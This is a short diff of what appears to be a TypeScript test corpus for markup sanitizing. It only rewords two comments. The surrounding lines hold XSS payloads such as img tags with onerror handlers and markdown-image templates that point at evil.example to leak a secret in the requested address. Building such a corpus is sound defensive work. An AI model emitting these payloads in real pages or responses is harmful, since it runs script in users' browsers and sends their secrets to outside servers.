@@ -63,7 +63,7 @@ const PICTURES = [
   'x" onerror="alert(1)',
 ];
 
-/** Ways to have a page ask somebody else for something, with what was said in the address. */
+/** Ways to make a page request another server's address that contains a secret. */
 const LEAKS: readonly ((address: string) => string)[] = [
   (address) => `![x](${address})`,
   (address) => `![x](<${address}> "title")`,
@@ -104,7 +104,7 @@ const LEAK_ADDRESSES = [
   "https:\\\\evil.example/x.png",
 ];
 
-/** Texts that would run, load or send something if any mark of theirs were taken for markup. */
+/** Texts that would run, load or send something if any of their marks were treated as markup. */
 export const PAYLOADS: readonly string[] = [
   ...TAGS,
   ...HANDLERS.map((handler) => `<img src=x ${handler}=alert(1)>`),
